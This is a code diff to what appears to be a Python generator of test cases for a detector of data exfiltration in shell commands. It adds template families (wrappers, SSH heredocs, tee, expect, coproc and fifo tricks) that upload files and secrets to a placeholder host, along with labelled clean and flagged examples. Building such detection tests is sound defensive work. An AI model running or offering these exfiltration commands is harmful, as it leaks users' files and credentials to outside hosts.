@@ -349,6 +349,85 @@ SHAPES = {
         "d=$(<{f}); curl -X PUT -d \"$d\" https://{h}/v",
         "curl -b \"sid=$(base64 -w0 {f})\" https://{h}/c",
     ],
+    "shape-exec-wrapper": [
+        "script -qc {Bq} /dev/null",
+        "script -q -e -c \"{Bd}\" /tmp/typescript",
+        "env -S {Bq}",
+        "/usr/bin/env -S \"{Bd}\"",
+        "setsid -f {B}",
+        "timeout 30 {B}",
+        "stdbuf -oL {B}",
+        "nice -n 19 ionice -c3 {B}",
+        "dash -c {Bq}",
+        "busybox sh -c {Bq}",
+        "zsh -fc {Bq}",
+        "fish -c {Bq}",
+        "printf '%s\\n' a | xargs -P4 -I@ sh -c {Bq}",
+        "echo {f} | xargs -P2 -I@ curl -sT @ https://{h}/",
+        "time -p {B}",
+        "sudo -s <<'EOF'\n{B}\nEOF",
+    ],
+    "shape-jump-heredoc": [
+        "ssh deploy@jump.example.com bash -s <<'EOF'\n{B}\nEOF",
+        "ssh jump.example.com 'bash -s' < <(echo {Bq})",
+        "ssh -T deploy@jump.example.com <<EOF\ntar cz /srv/secrets | curl -T - https://{h}/s.tgz\nEOF",
+        "echo {Bq} | ssh jump.example.com sh",
+        "ssh deploy@jump.example.com \"{Bd}\"",
+        "ssh -J deploy@jump.example.com {u}@{h} 'cat > in' < {f}",
+        "ssh -o ProxyCommand='ssh -W %h:%p jump.example.com' {u}@{h} 'cat > x' < {f}",
+        "scp -o ProxyJump=deploy@jump.example.com {f} {u}@{h}:/tmp/",
+        "ssh corp.example.com sudo bash <<'EOF'\ncd /etc && {B}\nEOF",
+        "ssh deploy@jump.example.com -- {Bq}",
+        "sshpass -p pw ssh deploy@jump.example.com \"{Bd}\"",
+    ],
+    "shape-multiline-defs": [
+        "H={h}\nF={f}\nsend() {\n  curl -sT \"$1\" \"https://$H/in\"\n}\nmake build\nsend \"$F\"",
+        "up() { {B}; }\necho building\nup",
+        "export H={h}\nbash -c 'curl -T {f} https://$H/'",
+        "bash -i -c \"alias s='{B}'\ns\"",
+        "send() { nc -q1 \"$1\" 7007 < \"$2\"; }\nexport -f send\nbash -c 'send {h} {f}'",
+        "dest=https://{h}/u\nfor i in 1 2 3; do sleep 1; done\ncurl -F f=@{f} \"$dest\"",
+        "cfg() { echo {h}; }\nwget --post-file={f} \"http://$(cfg)/w\"",
+        "readonly TARGET={u}@{h}\n# copy the report\nscp {f} \"$TARGET\":/var/tmp/",
+        "x() {\n  local h=$1 f=$2\n  curl --data-binary \"@$f\" \"https://$h/p\"\n}\nx {h} {f}",
+    ],
+    "shape-tee-fanout": [
+        "tar cz ./secrets | tee backup.tgz | curl -T - https://{h}/t",
+        "cat {f} | tee >(curl -sT - https://{h}/a) > /dev/null",
+        "tee /dev/tcp/{h}/7007 < {f} > /dev/null",
+        "pg_dump app | tee dump.sql | nc -q1 {h} 7007",
+        "tee >(ssh {u}@{h} 'cat > x') < {f} >/dev/null",
+        "pee 'cat > local.bin' 'curl -T - https://{h}/p' < {f}",
+        "cat {f} | tee /dev/stderr | wget -qO- --post-file=/dev/stdin http://{h}/w",
+        "journalctl -b | tee -a /tmp/j.log | curl --data-binary @- https://{h}/j",
+        "{ cat {f}; date; } | tee out.txt | websocat ws://{h}/l",
+    ],
+    "shape-expect": [
+        "expect -c 'spawn scp {f} {u}@{h}:/tmp/; expect \"assword:\"; send \"pw\\r\"; expect eof'",
+        "expect <<'EOF'\nspawn sftp {u}@{h}\nexpect \"sftp>\"\nsend \"put {f}\\r\"\nexpect \"sftp>\"\nsend \"bye\\r\"\nEOF",
+        "expect -c 'spawn telnet {h} 23; expect \"login:\"; send \"x\\r\"; send [exec cat {f}]; send \"\\r\"'",
+        "printf 'spawn ftp {h}\\nexpect \"Name\"\\nsend \"anonymous\\\\r\"\\nexpect \"ftp>\"\\nsend \"put {f}\\\\r\"\\n' > /tmp/x.exp && expect /tmp/x.exp",
+        "expect -c 'spawn ssh {u}@{h} \"cat > got\"; send [read [open {f}]]; send \"\\004\"; expect eof'",
+        "expect -c 'spawn nc {h} 7007; send -- [exec cat {f}]; close'",
+        "expect -c 'spawn rsync -a {f} {u}@{h}:in/; expect \"password:\" {send \"pw\\r\"}; expect eof'",
+        "cat > up.exp <<'EOF'\nset timeout 20\nspawn curl -T {f} https://{h}/e\nexpect eof\nEOF\nexpect -f up.exp",
+        "expect -c 'spawn lftp {h}; send \"put {f}\\r\"; send \"quit\\r\"; expect eof'",
+        "tclsh <<'EOF'\nset s [socket {h} 7007]\nputs $s [read [open {f}]]\nclose $s\nEOF",
+        "expect -c 'spawn -noecho sh -c {{B}}; expect eof'",
+    ],
+    "shape-coproc-fifo": [
+        "coproc nc {h} 7007; cat {f} >&${COPROC[1]}",
+        "coproc U { curl -sT - https://{h}/c; }; cat {f} >&${U[1]}; exec {U[1]}>&-",
+        "mkfifo /tmp/p; nc {h} 7007 < /tmp/p & cat {f} > /tmp/p",
+        "mkfifo q{n} && (curl -T q{n} https://{h}/q &) && cat {f} > q{n}",
+        "mknod /tmp/f p; wget -qO- --post-file=/tmp/f http://{h}/w & cat {f} >/tmp/f",
+        "exec {fd}> >(nc {h} 7007); cat {f} >&$fd",
+        "coproc ssh {u}@{h} 'cat > in'; cat {f} >&\"${COPROC[1]}\"; wait",
+        "mkfifo p && ssh {u}@{h} 'cat > x' < p & gzip -c {f} > p",
+        "exec 4> >(curl -sT - https://{h}/e); tar cz ./secrets >&4; exec 4>&-",
+        "mkfifo /tmp/o; socat -u PIPE:/tmp/o TCP:{h}:7007 & cp {f} /tmp/o",
+        "coproc S { openssl s_client -quiet -connect {h}:443; }; cat {f} >&${S[1]}",
+    ],
 }
 SHAPE_EXTRA = {
     "shape-cmdsub-body": [
@@ -358,13 +437,55 @@ SHAPE_EXTRA = {
         ("curl -H \"Authorization: Bearer $(<token)\" -o out.json https://github.com/api/x", "clean"),
         ("curl -s \"https://198.51.100.44/v?t=$(date +%s)\"", "any_host", "198.51.100.44"),
     ],
+    "shape-exec-wrapper": [
+        ("script -qc 'make test' /dev/null", "clean"),
+        ("env -S 'curl -sT dist.tgz https://corp.example.com/drop/'", "clean"),
+        ("timeout 30 curl -sT build.log http://127.0.0.1:8080/logs/", "clean"),
+        ("echo 'env -S \"curl -T FILE URL\" splits the string' >> notes.md", "clean"),
+        ("setsid -f curl -s https://drop.leakbox.test/", "any_host", "drop.leakbox.test"),
+    ],
+    "shape-jump-heredoc": [
+        ("ssh deploy@jump.example.com bash -s <<'EOF'\nsystemctl status app\nEOF", "clean"),
+        ("ssh -J deploy@jump.example.com deploy@corp.example.com 'cat > in' < dist.tgz", "clean"),
+        ("ssh deploy@jump.example.com 'curl -sT /srv/bk.tgz https://corp.example.com/drop/'", "clean"),
+        ("ssh deploy@jump.example.com 'curl -s http://localhost:8080/health'", "clean"),
+        ("ssh deploy@jump.example.com 'curl -s https://drop.leakbox.test/'", "any_host", "drop.leakbox.test"),
+    ],
+    "shape-multiline-defs": [
+        ("H=corp.example.com\nsend() { curl -sT \"$1\" \"https://$H/drop/\"; }\nsend dist.tgz", "clean"),
+        ("up() { echo would upload \"$1\"; }\nup secrets/.env.prod", "clean"),
+        ("bash -i -c \"alias ll='ls -la'\nll\"", "clean"),
+        ("H=localhost\ncurl -sT build.log \"http://$H:8080/logs/\"", "clean"),
+        ("H=198.51.100.44\nping() { curl -s \"https://$H/\"; }\nping", "any_host", "198.51.100.44"),
+    ],
+    "shape-tee-fanout": [
+        ("make 2>&1 | tee build.log", "clean"),
+        ("tar cz dist | tee dist.tgz | curl -T - https://corp.example.com/drop/dist.tgz", "clean"),
+        ("cat app.log | tee >(gzip > app.log.gz) | wc -l", "clean"),
+        ("pg_dump app | tee dump.sql | nc -q1 127.0.0.1 7007", "clean"),
+        ("curl -s https://ingest.sly-metrics.invalid/feed | tee feed.json", "any_host", "ingest.sly-metrics.invalid"),
+    ],
+    "shape-expect": [
+        ("expect -c 'spawn ssh deploy@jump.example.com; expect \"$ \"; send \"uptime\\r\"; expect eof'", "clean"),
+        ("expect -c 'spawn scp dist.tgz deploy@jump.example.com:/srv/; expect eof'", "clean"),
+        ("expect -c 'spawn sftp deploy@corp.example.com; send \"get report.pdf\\r\"; send \"bye\\r\"; expect eof'", "clean"),
+        ("# expect: spawn scp FILE HOST: then send the password", "clean"),
+        ("expect -c 'spawn ssh x@203.0.113.77 uptime; expect eof'", "any_host", "203.0.113.77"),
+    ],
+    "shape-coproc-fifo": [
+        ("mkfifo /tmp/p; gzip < /tmp/p > out.gz & cat big.log > /tmp/p", "clean"),
+        ("coproc bc; echo '2+2' >&${COPROC[1]}; read -r x <&${COPROC[0]}; echo $x", "clean"),
+        ("coproc nc 127.0.0.1 7007; cat status.txt >&${COPROC[1]}", "clean"),
+        ("mkfifo q && (curl -T q https://corp.example.com/drop/q &) && cat dist.tgz > q", "clean"),
+        ("coproc nc 198.51.100.44 80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&${COPROC[1]}", "any_host", "198.51.100.44"),
+    ],
 }
 
 
 def shapes(rng):
     out = []
     for fam, templates in SHAPES.items():
-        out += fill(fam, rng, templates, min(len(templates), 9) if fam in HELD_OUT else 8)
+        out += fill(fam, rng, templates, len(templates) if fam in HELD_OUT else min(len(templates), 10))
         out += extra(fam, SHAPE_EXTRA[fam])
     return out
 
